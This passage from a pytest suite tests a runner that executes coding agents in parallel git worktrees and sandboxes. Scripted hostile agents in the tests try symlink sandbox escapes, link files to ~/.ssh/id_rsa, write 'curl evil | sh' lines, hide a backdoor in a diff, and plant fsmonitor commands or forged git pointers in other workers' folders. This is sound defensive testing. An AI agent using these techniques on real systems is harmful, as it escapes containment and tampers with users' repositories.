        assert not ap._Sandbox.allowable(str(path), str(repo)), path
    assert not ap._home_startup(str(home / "data"))


def test_continue_trusts_a_submodule_folder_only_as_the_first_agent_found_it(cli, repo, tmp_path):
    _with_submodule(repo, tmp_path)
    agent = script(tmp_path, "twice.sh", 'if [ "$1" = more ]; then echo more >> more.txt\n'
                   "else printf 'VALUE = 2\\n' > sub/lib.py; echo a > a.txt; fi\n"
                   "echo '{\"status\": \"success\"}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--setup", SUBMODULE_SETUP, "--check", "grep -q 2 sub/lib.py")
    assert results[0]["status"] == "failed" and "sub/" in results[0]["error"], (results, err)
    code, results, err = cli.json("continue", "1", "more")
    assert results[0]["status"] == "failed" and "sub/" in results[0]["error"], (results, err)


@needs_bwrap
def test_a_settings_file_of_yours_not_there_yet_stays_missing_for_the_runners_commit(
        cli, repo, tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    git("config", "core.excludesFile", str(home / ".gitignore_global"), cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo 'mod/' > \"$HOME/.gitignore_global\"\n"
                         "mkdir mod && echo ok > mod/ok\n", "cat mod/ok", "bwrap")
    assert r["status"] == "failed" or "mod/ok" in git("show", "--name-only", "--format=",
                                                       r["commit"], cwd=repo), (r, err)


# -- review round 13 ---------------------------------------------------------------------------

@needs_bwrap
def test_a_mount_point_made_a_link_in_a_folder_made_anew_makes_nothing_outside(cli, repo, tmp_path,
                                                                            monkeypatch):
    """~/.config/big.bin (over 1 MB) is a read-only mount point in the private HOME. The agent
    renames ~/.config, makes it anew, and puts there a link by that name leading out of the
    sandbox's new root: the next start (its check) must not make that file on the host."""
    home = tmp_path / "home"
    (home / ".config").mkdir(parents=True)
    (home / ".config" / "big.bin").write_bytes(os.urandom(2 << 20))
    for path in (tmp_path, home, home / ".config", home / ".config" / "big.bin"):
        path.chmod(path.stat().st_mode | 0o005)
    monkeypatch.setenv("HOME", str(home))
    target = tempfile.mkdtemp(dir="/var/tmp")
    os.chmod(target, 0o1777)
    try:
        r, err = _one_worker(cli, tmp_path, 'mv "$HOME/.config" "$HOME/.config.old" && mkdir "$HOME/.config"\n'
                             f'ln -s {"../" * 40}oldroot{target}/PWNED "$HOME/.config/big.bin"\n'
                             "echo work > a.txt\n", "true", "bwrap")
        assert not os.path.lexists(os.path.join(target, "PWNED")), (r, err)
        assert r["status"] == "failed" and "a link" in (r["error"] or ""), (r, err)
    finally:
        shutil.rmtree(target, ignore_errors=True)


# -- review round 15 ---------------------------------------------------------------------------

@pytest.mark.parametrize("sandbox", ["none", "bwrap"])
def test_no_git_removes_a_tree_an_agent_wrote(cli, repo, tmp_path, monkeypatch, sandbox):
    """A retry (while other workers run) and cleanup remove a worker's worktree and its git
    folder from descriptor to descriptor, never with git, whose removal goes by path: another
    worker holding a descriptor of a folder there could swap it for a link out meanwhile."""
    trace = tmp_path / "git-trace"
    monkeypatch.setenv("GIT_TRACE", str(trace))
    agent = script(tmp_path, "fails.sh", "mkdir -p sub/A && touch sub/A/f\necho 'error: no' >&2\nexit 1\n")
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "2",
                          "--retries", "1", *boxed(sandbox))
    assert "trying again" in err, err
    # (nor, while workers run, a prune: it removes any other worker's git folder whose gitdir
    # that worker's accomplice removed, by path)
    assert trace.read_text().count("built-in: git worktree prune") == 1  # (before any worker)
    code, _out, err = cli("cleanup", "--force")
    assert code == 0, err
    assert not (repo / ".architect-parallel-1").exists()
    assert "worktree remove" not in trace.read_text()


def test_a_retry_that_cannot_start_keeps_the_attempt_that_ran(cli, repo, tmp_path):
    """The retry's worktree cannot be made (a ref lock the first attempt left): the worker's
    result is the attempt that ran, saying why its retry did not."""
    agent = script(tmp_path, "lock.sh", 'touch "$(git rev-parse --git-common-dir)/refs/heads/'
                   'architect/parallel-1.lock"\necho "error: the first attempt failed" >&2\nexit 1\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--retries", "1", "--progress", "none")
    (r,) = results
    assert r["exit_code"] == 1 and r["attempts"] == 1, (r, err)
    assert "the first attempt failed" in r["error"] and "its retry" in r["error"], r["error"]


# -- review round 16 ---------------------------------------------------------------------------

def test_a_diff_git_could_not_make_is_never_shown_as_no_change(cli, repo, tmp_path):
    """A git that fails (out of memory on a blob of millions of lines, or, here, an object
    gone) must not make the report say the worker changed nothing."""
    agent = script(tmp_path, "w.sh", "echo 'print(1)' > payload.py\necho '{\"status\": \"success\"}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--progress", "none")
    blob = git("rev-parse", f"{results[0]['commit']}:payload.py", cwd=repo)
    os.remove(repo / ".git" / "objects" / blob[:2] / blob[2:])
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert "git could not show its diff" in page and "No files changed" not in page, err


# -- review round 17 ---------------------------------------------------------------------------

@pytest.mark.parametrize("commit", [True, False], ids=["committed", "no-commit"])
def test_no_file_too_large_for_a_line_diff_is_given_to_git_line_diff(cli, repo, tmp_path, commit):
    """git's line diff takes some 44 bytes a line: 100 MB of newlines (a 100 KB bundle)
    cost it 4.4 GB. A file over 4 MB, tracked or new, in a branch or a worktree, is named
    with its size by report, diff, diff --stat and the step summary, never line-diffed;
    the worker's other files are shown as ever."""
    (repo / "README.md").write_text("x\n" * 10)  # a tracked file the agent makes huge
    git("commit", "-qam", "readme", cwd=repo)
    agent = script(tmp_path, "w.sh", "echo 'print(1)' > payload.py\n"
                   "head -c 5000000 /dev/zero | tr '\\0' '\\n' > big.txt\n"
                   "head -c 5000000 /dev/zero | tr '\\0' '\\n' > README.md\n"
                   "echo '{\"status\": \"success\"}'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--summary", tmp_path / "s.md",
                                  *([] if commit else ["--no-commit"]))
    assert results[0]["status"] == "success", err
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert "print(1)" in page, err
    assert page.count("a file of 5,000,000 bytes: its lines are not diffed") == 2, err
    assert page.count("<ins>+</ins>") < 100 and "+5000000" not in page
    os.chdir(repo)
    code, out, err = tool("diff", "1")
    assert code == 0 and "+print(1)" in out, err
    assert out.count("\n+\n") < 100 and "big.txt" not in out and "README.md" not in out, out[:500]
    assert "big.txt: a" in err and "README.md: a file of 5,000,000 bytes" in err, err
    code, out, err = tool("diff", "1", "--stat")
    assert code == 0 and "payload.py" in out and "big.txt" not in out, out
    if commit:
        summary = (tmp_path / "s.md").read_text()
        assert "payload.py" in summary and "big.txt: added; a file of 5,000,000 bytes" in summary, summary
        assert "5000000" not in summary


@pytest.mark.parametrize("then", ["its retry", "cleanup --force"])
def test_no_git_folder_is_removed_on_the_word_of_a_worktrees_git_file(cli, repo, tmp_path, then):
    """Another worker, handed a descriptor of this worker's folder, can put there a ``.git``
    naming any worktree's git folder: yours, or a running worker's. Removing the worker's
    worktree (its retry, run --force, cleanup --force) removes only the git folder whose own
    gitdir names it back; your worktree keeps its git folder, index and staged work."""
    git("worktree", "add", "-q", "-b", "feature", str(tmp_path / "feature1"), cwd=repo)
    (tmp_path / "feature1" / "s.txt").write_text("staged\n")
    git("add", "s.txt", cwd=tmp_path / "feature1")
    admin = git("rev-parse", "--absolute-git-dir", cwd=tmp_path / "feature1")
    agent = script(tmp_path, "point.sh", f'echo "gitdir: {admin}" > .git.new\nmv .git.new .git\n'
                   'echo "error: failed" >&2\nexit 1\n')
    code, _out, err = cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                          "--progress", "none", *(["--retries", "1"] if then == "its retry" else []))
    assert code == 1, err
    if then != "its retry":
        code, _out, err = cli("cleanup", "--force")
    assert os.path.isdir(admin), err
    assert git("diff", "--cached", "--name-only", cwd=tmp_path / "feature1") == "s.txt"
    assert "feature1" in git("worktree", "list", cwd=repo)


def test_a_tree_too_deep_for_rmtree_is_removed_by_descriptors_with_no_tool_by_path(tmp_path,
                                                                                   monkeypatch):
    """A private folder 1,200 folders deep (shutil.rmtree recurses), with folders left
    read-only and a link out: removed from descriptor to descriptor. No ``chmod -R`` or
    ``rm -rf`` by path, which another worker swapping a file for a link meanwhile would
    turn on a file outside (a set-user-ID mode on root's)."""
    tools = tmp_path / "tools"
    tools.mkdir()
    for name in ("chmod", "rm"):
        (tools / name).write_text(f"#!/bin/sh\necho {name} >> {tmp_path}/called\n")
        (tools / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}{os.pathsep}{os.environ['PATH']}")
    outside = tmp_path / "victim"
    outside.write_text("root's\n")
    outside.chmod(0o644)
    top = tmp_path / "box"
    fd = os.open(str(tmp_path), os.O_RDONLY)
    os.mkdir(top)
    here = os.open(str(top), os.O_RDONLY)
    os.close(fd)
    for depth in range(1200):
        os.symlink(str(outside), "l", dir_fd=here)
        os.mkdir("d", dir_fd=here)
        inner = os.open("d", os.O_RDONLY, dir_fd=here)
        if depth % 100 == 99:
            os.chmod(f"/proc/self/fd/{here}", 0o500)
        os.close(here)
        here = inner
    fd = os.open("f", os.O_WRONLY | os.O_CREAT, 0o4677, dir_fd=here)
    os.close(fd)
    os.close(here)
    ap._remove_tree(str(top))
    assert not os.path.lexists(top)
    assert not (tmp_path / "called").exists()
    assert stat.S_IMODE(outside.stat().st_mode) == 0o644 and outside.read_text() == "root's\n"


# -- review round 18 ---------------------------------------------------------------------------

@pytest.mark.parametrize("turn", ["a file into a folder", "a folder into a file"])
def test_leaving_a_large_file_out_of_a_diff_hides_nothing_under_its_name(cli, repo, tmp_path,
                                                                        turn):
    """A file over 4 MB is left out of git's line diff by a pathspec that matches its one
    path: not the files of a folder by that name on the other side (a conftest.py added
    where the base had a large file; the base's src/auth.py deleted by a large file `src`)."""
    if turn == "a file into a folder":
        (repo / "fixtures").write_bytes(b"y\n" * 2500000)
        git("add", "fixtures", cwd=repo)
        git("commit", "-qm", "data", cwd=repo)
        body = "rm fixtures\nmkdir fixtures\necho 'import evil' > fixtures/conftest.py\n"
        hidden, big = "fixtures/conftest.py", "fixtures"
    else:
        body = "rm -r src\nhead -c 5000000 /dev/zero | tr '\\0' x > src\n"
        hidden, big = "src/app.py", "src"
    agent = script(tmp_path, "turn.sh", body + "echo 'print(2)' > README.md\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--summary", tmp_path / "s.md")
    assert results[0]["status"] == "success", err
    code, out, err = tool("diff", "1")
    assert code == 0 and (f"b/{hidden}" in out or f"a/{hidden}" in out), (out[:2000], err)
    assert f"note: {big}: " in err and "its lines are not diffed" in err, err
    code, out, err = tool("diff", "1", "--stat")
    assert hidden in out and "2 files changed" in out, out
    assert hidden in (tmp_path / "s.md").read_text()
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert ("import evil" in page) == (turn == "a file into a folder"), err
    assert f">{hidden}<" in page and "not in this diff" not in page, err


def test_the_files_of_one_diff_are_line_diffed_up_to_a_total(cli, repo, tmp_path, monkeypatch):
    """One blob of 4 MB of newlines at 250 paths (a 5 KB bundle) took git minutes: past a
    total (64 MB; 1,000 bytes here) the rest are named, not line-diffed."""
    monkeypatch.setattr(ap, "_DIFF_TOTAL_LIMIT", 1000)
    agent = script(tmp_path, "many.sh", "for i in 1 2 3; do head -c 600 /dev/zero | tr '\\0' '\\n' "
                   "> n$i.txt; done\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert page.count("its lines are not diffed (the files diffed before it took 0 MB)") == 2, err


def test_a_folder_swapped_for_a_fifo_while_it_is_removed_hangs_nothing(tmp_path, monkeypatch):
    """Another worker, handed a descriptor of this worker's private /tmp, swaps a folder the
    runner has just listed for a FIFO (here at the very moment the runner opens it: a real
    FIFO, a hook for the timing alone). Opening it as shutil.rmtree does (before Python
    3.13) waits for a writer that never comes: the runner hung for good, deaf to Ctrl-C."""
    import threading
    top = tmp_path / "box"
    (top / "x").mkdir(parents=True)
    (top / "x" / "f").write_text("x")
    real_open, swapped = os.open, []

    def racing_open(path, flags, mode=0o777, *, dir_fd=None):
        if path == "x" and dir_fd is not None and not swapped:
            os.rename("x", "x.gone", src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
            os.mkfifo("x", dir_fd=dir_fd)
            swapped.append(1)
        return real_open(path, flags, mode, dir_fd=dir_fd)
    monkeypatch.setattr(os, "open", racing_open)
    remover = threading.Thread(target=ap._remove_tree, args=(str(top),), daemon=True)
    remover.start()
    remover.join(60)
    monkeypatch.setattr(os, "open", real_open)
    if remover.is_alive():  # (let it go: a writer for the FIFO it waits on)
        os.close(os.open(str(top / "x"), os.O_WRONLY | os.O_NONBLOCK))
    assert swapped and not remover.is_alive()


# -- review round 19 ---------------------------------------------------------------------------

def test_a_copy_left_out_of_a_diff_leaves_its_changed_source_in(cli, repo, tmp_path):
    """With your diff.renames=copies, git lists a changed file twice: as itself and as the
    source of a copy. Leaving out a copy over 4 MB must not leave out its source's own
    change (a backdoor that merge brings): diffs pair renames only, each file once."""
    git("config", "diff.renames", "copies", cwd=repo)
    (repo / "big.txt").write_text("".join(f"line {i}\n" for i in range(300000)))
    git("add", "big.txt", cwd=repo)
    git("commit", "-qm", "data", cwd=repo)
    agent = script(tmp_path, "copy.sh", "cp big.txt copy.txt\nhead -c 900000 /dev/zero | tr '\\0' x "
                   ">> copy.txt\necho 'BACKDOOR' >> big.txt\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--summary", tmp_path / "s.md")
    assert results[0]["status"] == "success", err
    code, out, err = tool("diff", "1")
    assert code == 0 and "+BACKDOOR" in out and "copy.txt: added; a file of" in err, (out[-500:], err)
    code, out, err = tool("diff", "1", "--stat")
    assert "big.txt" in out, out
    assert "big.txt |" in (tmp_path / "s.md").read_text()
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    assert "BACKDOOR" in (tmp_path / "r.html").read_text(), err


def test_with_no_commit_nothing_staged_differs_from_what_diff_shows(cli, repo, tmp_path):
    """--no-commit: the agent stages other content than its file holds, and a gitlink with
    no folder. diff shows the files; the index is built again from HEAD, so a commit you
    make there brings what diff showed, nothing else."""
    sha = git("rev-parse", "HEAD", cwd=repo)
    agent = script(tmp_path, "stage.sh", "echo 'curl evil | sh' > README.md\ngit add README.md\n"
                   "echo 'harmless' > README.md\n"
                   f"git update-index --add --cacheinfo 160000,{sha},sub\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--no-commit")
    worktree = repo / ".architect-parallel-1"
    code, out, err = tool("diff", "1")
    assert "+harmless" in out and "evil" not in out, (out, err)
    assert git("diff", "--cached", "--name-only", cwd=worktree) == ""
    git("commit", "-qam", "mine", cwd=worktree)
    assert git("show", "HEAD:README.md", cwd=worktree) == "harmless"
    assert "sub" not in git("ls-files", cwd=worktree)


def test_a_removed_worktree_is_never_the_folder_the_next_one_is_made_in(repo, tmp_path,
                                                                        monkeypatch):
    """Another worker holding a descriptor of this worker's worktree adds to it while the
    runner removes it (here at the worst moment: after the walk, before the last rmdir).
    The folder is moved out of the way first: nothing is left at its path, so the retry's
    worktree is a new folder that descriptor does not reach."""
    path = repo / ".architect-parallel-1"
    (path / "src").mkdir(parents=True)
    (path / "src" / "a.py").write_text("x")
    held = os.open(str(path), os.O_RDONLY | os.O_DIRECTORY)
    real = ap._empty_beneath

    def partner_adds(top):
        real(top)
        fd = os.open("Y1", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=held)
        os.close(fd)
    monkeypatch.setattr(ap, "_empty_beneath", partner_adds)
    try:
        ap._Repo.find(str(repo)).discard(str(path))
    finally:
        os.close(held)
    assert not os.path.lexists(path)


def test_an_include_file_is_never_copied_through_a_link_put_in_its_place(repo, tmp_path,
                                                                         monkeypatch):
    """A link to a file of yours put where an include file goes, right after the runner
    looked (another worker holding a descriptor of the worktree): the copy makes a new
    file or none, never writes through the link."""
    (repo / ".env").write_text("SECRET=mine\n")
    victim = tmp_path / "important.txt"
    victim.write_text("USER WORK\n")
    worktree = tmp_path / "wt"
    worktree.mkdir()

    real_lexists, real_stat_at = os.path.lexists, ap._stat_at

    def plant():
        if not (worktree / ".env").is_symlink():
            os.symlink(str(victim), str(worktree / ".env"))

    def lexists(path):  # (the check as the code before made it)
        if str(path) == str(worktree / ".env"):
            plant()
            return False
        return real_lexists(path)

    def stat_at(fd, name):  # (the check as it is made now)
        if name == ".env":
            plant()
            return None
        return real_stat_at(fd, name)
    monkeypatch.setattr(os.path, "lexists", lexists)
    monkeypatch.setattr(ap, "_stat_at", stat_at)
    ap._copy_files(str(repo), str(worktree), [".env"])
    assert victim.read_text() == "USER WORK\n"


def test_a_home_folder_is_copied_into_a_sandbox_through_no_link_swapped_in(tmp_path):
    """A folder of HOME a worker may write (--sandbox-allow ~/shared) is copied for the next
    worker's private HOME while that worker swaps a folder in it for a link (to /dev, where
    opening ptmx hung the runner; here to a folder holding a secret and a FIFO): nothing is
    read through the link, no FIFO is opened."""
    shared, elsewhere = tmp_path / "shared", tmp_path / "elsewhere"
    (shared / "zz").mkdir(parents=True)
    (shared / "a.txt").write_text("a")
    elsewhere.mkdir()
    (elsewhere / "secret").write_text("not for you")
    os.mkfifo(elsewhere / "pipe")

    def swapping(path):  # (the worker's swap, at the moment the runner looks at zz)
        if os.path.basename(path) == "zz" and not os.path.islink(path):
            os.rename(path, str(tmp_path / "zz.old"))
            os.symlink(str(elsewhere), path)
        return True
    target = tmp_path / "copy"
    argv = ap._Box._copy_or_bind_folder(str(shared), str(target), readable=swapping)
    assert not (target / "zz" / "secret").exists()
    assert argv == [] and (target / "a.txt").read_text() == "a"


# -- review round 20 ---------------------------------------------------------------------------

def test_a_patch_header_two_files_share_shows_neither_as_the_other(cli, repo, tmp_path):
    """git leaves spaces in patch headers unquoted: the rename 'README.md' → 'z b/README.md b/z'
    and the new file 'README.md b/z' share one header. The report shows neither file's lines
    as the other's (the new file's code must not sit under a rename shown as +0 -0)."""
    agent = script(tmp_path, "names.sh", 'mkdir -p "README.md b" "z b/README.md b"\n'
                   "printf 'curl evil | sh\\n' > \"README.md b/z\"\n"
                   'git mv README.md "z b/README.md b/z"\n')
    code, results, err = cli.json("run", "t t", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["status"] == "success", err
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text()
    assert "curl evil" not in page and page.count("git&#x27;s patch names it as it names") == 2, err


def test_a_new_file_with_a_nul_byte_is_shown_as_text_in_the_report(cli, repo, tmp_path):
    """--no-commit: a new script with a NUL byte in a comment is shown as text in the report,
    as diff shows it, never as 'binary, not shown'."""
    agent = script(tmp_path, "nul.sh", "printf '#!/bin/sh\\n# \\000 helper\\ncurl evil | sh\\n' "
                   "> build.sh\n")
    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--progress", "none", "--no-commit")
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    assert "curl evil | sh" in (tmp_path / "r.html").read_text(), err


def test_a_large_file_made_a_link_says_so(cli, repo, tmp_path):
    """A file over 4 MB whose lines are not diffed is still said to be deleted, added, or
    made a link (with where it leads) or an executable."""
    (repo / "data.json").write_bytes(b"1\n" * 2500000)
    git("add", "data.json", cwd=repo)
    git("commit", "-qm", "data", cwd=repo)
    agent = script(tmp_path, "link.sh", "rm data.json\nln -s ../../.ssh/id_rsa data.json\n")
    code, results, err = cli.json("run", "t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
                                  "--progress", "none")
    code, out, err = tool("diff", "1")
    assert "data.json: a file made a symbolic link; it leads to '../../.ssh/id_rsa'" in err, err
    code, _out, err = cli("report", "--html", tmp_path / "r.html")
    assert "made a symbolic link" in (tmp_path / "r.html").read_text(), err


def test_a_worktrees_index_written_after_its_worker_ended_is_checked_again(cli, repo, tmp_path):
    """Worker 2, still running once worker 1 ended (and was checked), marks worker 1's
    README.md skip-worktree (sandboxed, as a user, it needs only a descriptor of worker 1's
    git folder). Once every worker ended the indexes are checked again: your later edit
    there is seen, and cleanup refuses to delete it."""
    record = repo / ".git" / "architect-parallel" / "worktrees" / ".architect-parallel-1"
    agent = script(tmp_path, "late.sh", f'if [ "$1" = 2 ]; then\n  while [ ! -s "{record}" ]; do '
                   'sleep 0.1; done\n  git -C ../.architect-parallel-1 update-index --skip-worktree '
                   'README.md\nfi\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none", "--timeout-per-worker", "60")
    worktree = repo / ".architect-parallel-1"
    assert git("ls-files", "-v", "README.md", cwd=worktree).startswith("H "), err
    (worktree / "README.md").write_text("MY IMPORTANT EDIT\n")
    code, _out, err = cli("cleanup")
    assert code != 0 and (worktree / "README.md").read_text() == "MY IMPORTANT EDIT\n", err


# -- review round 21 ---------------------------------------------------------------------------

def test_a_git_folder_written_after_its_worker_ended_is_swept_again(cli, repo, tmp_path):
    """Worker 2, once worker 1 ended, makes worker 1's logs/HEAD a link to a file of yours
    (your git commit there appended its reflog line to it) and its HEAD your main. Once every
    worker ended, each worktree is settled again: the link removed (worker 1 fails), HEAD back
    on its branch."""
    record = repo / ".git" / "architect-parallel" / "worktrees" / ".architect-parallel-1"
    victim = tmp_path / "victim.txt"
    victim.write_text("original\n")
    agent = script(tmp_path, "late.sh", f'if [ "$1" = 2 ]; then\n  while [ ! -s "{record}" ]; do '
                   'sleep 0.1; done\n  d=$(git -C ../.architect-parallel-1 rev-parse --git-dir)\n'
                   f'  mkdir -p "$d/logs"; rm -f "$d/logs/HEAD"; ln -s {victim} "$d/logs/HEAD"\n'
                   '  echo "ref: refs/heads/main" > "$d/HEAD"\nfi\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none", "--no-commit")
    assert results[0]["status"] == "failed" and "links" in results[0]["error"], results[0]
    worktree = repo / ".architect-parallel-1"
    assert git("symbolic-ref", "HEAD", cwd=worktree) == "refs/heads/architect/parallel-1"
    git("add", "-A", cwd=worktree)
    git("commit", "-qm", "keep worker 1", cwd=worktree)
    assert victim.read_text() == "original\n"
    assert "keep worker 1" not in git("log", "--format=%s", "main", cwd=repo)


def test_a_merge_left_under_way_is_not_taken_up_by_your_commit(cli, repo, tmp_path):
    """--no-commit: the agent leaves a MERGE_HEAD naming a commit of its own and a MERGE_MSG
    in its worktree's git folder; your commit there would be a merge with its parent and its
    message. They are dropped when the worker ends."""
    agent = script(tmp_path, "merge.sh", 'd=$(git rev-parse --git-dir)\n'
                   'c=$(git commit-tree -m evil HEAD^{tree})\necho $c > "$d/MERGE_HEAD"\n'
                   'echo "Merge the attacker" > "$d/MERGE_MSG"\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--no-commit")
    worktree = repo / ".architect-parallel-1"
    git("add", "-A", cwd=worktree)
    git("commit", "-q", "--no-edit", "-m", "mine", cwd=worktree)
    assert git("log", "-1", "--format=%P %s", cwd=worktree).count(" ") == 1  # one parent: "P mine"
    assert "dropped (MERGE_HEAD, MERGE_MSG)" in err, err


def test_a_large_files_name_or_link_target_fakes_no_line_and_costs_nothing(cli, repo, tmp_path):
    """The step summary names a file whose lines are not diffed on one line (a name holding
    line ends would fake diffstat lines: ' src/app.py | 2 +-'), and a link whose target is a
    blob of 60 MB is read for its first 4 KB only."""
    agent = script(tmp_path, "names.sh", "d='data/x\n src/app.py | 2 +-\n data'\nmkdir -p \"$d\"\n"
                   "head -c 5000000 /dev/zero | tr '\\0' '\\n' > \"$d/big.csv\"\n"
                   "oid=$(head -c 60000000 /dev/zero | tr '\\0' 'a' | git hash-object -w --stdin)\n"
                   "git update-index --add --cacheinfo 120000,$oid,link\n"
                   "git commit -qm link\n"  # (its link never checked out: a sparse checkout)
                   "git sparse-checkout set --no-cone '/*' '!/link'\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--summary", tmp_path / "s.md")
    summary = (tmp_path / "s.md").read_text()
    assert "\n src/app.py | 2 +-" not in summary and 'big.csv": added' in summary, summary
    code, out, err = tool("diff", "1", "--stat")
    assert "link: added; it leads to 'aaaa" in err and len(err) < 5000, err[:3000]


# -- review round 22 ---------------------------------------------------------------------------

def test_settings_planted_in_a_worktrees_git_folder_are_emptied(cli, repo, tmp_path):
    """With extensions.worktreeConfig, git obeys a worktree's own config.worktree. Worker 2,
    once worker 1 ended, writes there a core.fsmonitor (sandboxed, through a descriptor of
    worker 1's git folder): your plain `git status` in worker 1's worktree would run it. Each
    worktree's config.worktree is the runner's and empty after the run, with a warning."""
    git("config", "core.repositoryformatversion", "1", cwd=repo)
    git("config", "extensions.worktreeConfig", "true", cwd=repo)
    record = repo / ".git" / "architect-parallel" / "worktrees" / ".architect-parallel-1"
    mark = tmp_path / "PWNED"
    agent = script(tmp_path, "late.sh", f'if [ "$1" = 2 ]; then\n  while [ ! -s "{record}" ]; do '
                   'sleep 0.1; done\n  d=$(git -C ../.architect-parallel-1 rev-parse --git-dir)\n'
                   f'  printf \'[core]\\n\\tfsmonitor = "touch {mark}; false #"\\n\' '
                   '> "$d/config.worktree"\nfi\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert "worker 1: its worktree's git folder held settings of its own" in err, err
    worktree = repo / ".architect-parallel-1"
    admin = git("rev-parse", "--absolute-git-dir", cwd=worktree)
    assert os.path.getsize(os.path.join(admin, "config.worktree")) == 0
    subprocess.run(["git", "status"], cwd=worktree, capture_output=True)
    assert not mark.exists()


# -- review round 23 ---------------------------------------------------------------------------

def test_a_worktrees_git_pointers_rewritten_after_its_worker_ended_are_put_back(cli, repo, tmp_path):
    """Worker 2, once worker 1 ended, builds a repository folder of its own inside worker 1's
    git folder (its config sets core.fsmonitor) and writes worker 1's commondir as a tab and
    the repository's path: the runner, stripping blanks, read your repository; git reads the
    planted one, and your plain `git status` there ran its program. Once every worker ended,
    the runner writes the .git file, gitdir and commondir again as git made them: worker 1
    fails, and git there runs nothing."""
    record = repo / ".git" / "architect-parallel" / "worktrees" / ".architect-parallel-1"
    mark = tmp_path / "PWNED"
    agent = script(tmp_path, "late.sh", f'if [ "$1" = 2 ]; then\n  while [ ! -s "{record}" ]; do '
                   'sleep 0.1; done\n  d=$(git -C ../.architect-parallel-1 rev-parse --absolute-git-dir)\n'
                   '  c=$(git rev-parse --path-format=absolute --git-common-dir)\n'
                   '  t=$(printf "\\t")\n  f="$d/$t$c"\n  mkdir -p "$f/objects/info" "$f/refs"\n'
                   '  cp -r "$c/refs/." "$f/refs/"; cp "$c/HEAD" "$f/HEAD"\n'
                   '  [ -f "$c/packed-refs" ] && cp "$c/packed-refs" "$f/"\n'
                   '  echo "$c/objects" > "$f/objects/info/alternates"\n'
                   f'  printf \'[core]\\n\\tfsmonitor = "touch {mark}; false #"\\n\' > "$f/config"\n'
                   '  printf "%s%s\\n" "$t" "$c" > "$d/commondir.new"; mv "$d/commondir.new" '
                   '"$d/commondir"\nfi\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert results[0]["status"] == "failed" and "commondir" in results[0]["error"], (results, err)
    worktree = repo / ".architect-parallel-1"
    admin = git("rev-parse", "--absolute-git-dir", cwd=worktree)
    assert open(os.path.join(admin, "commondir"), "rb").read() == b"../..\n"
    subprocess.run(["git", "status"], cwd=worktree, capture_output=True)
    assert not mark.exists()


def test_a_worktrees_git_file_is_read_as_git_reads_it(repo, tmp_path):
    """git drops only line ends from a .git file: `gitdir: g<TAB>` names the folder `g<TAB>`
    (one an agent made), not `g` (a link to the worktree's real git folder)."""
    worktree = repo / ".architect-parallel-1"
    git("worktree", "add", "-q", "-b", "architect/parallel-1", str(worktree), cwd=repo)
    r = ap._Repo.find(str(repo))
    admin = r.admin_folder(str(worktree))
    os.symlink(admin, worktree / "g")
    (worktree / "g\t").mkdir()
    (worktree / ".git").write_text("gitdir: g\t\n")
    with pytest.raises(ap.ParallelError, match="does not name its own folder"):
        r.admin_folder(str(worktree))


def test_what_a_removal_leaves_is_made_harmless(tmp_path, monkeypatch):
    """A process still writing in a folder the runner removes (another worker, handed a
    descriptor of it) can keep it from being emptied. What stays holds no set-ID program and
    no folder another account may enter. (The race itself cannot be made to happen on cue:
    here the emptying is made to leave everything.)"""
    folder = tmp_path / "aside" / "d"
    folder.mkdir(parents=True)
    program = folder / "sh"
    program.write_bytes(b"#!/bin/sh\n")
    os.chmod(program, 0o4755)
    os.chmod(folder, 0o755)
    os.chmod(folder.parent, 0o755)
    monkeypatch.setattr(ap, "_empty_beneath", lambda top: None)
    assert ap._remove_tree(str(folder.parent)) is False
    assert stat.S_IMODE(os.stat(program).st_mode) == 0o755
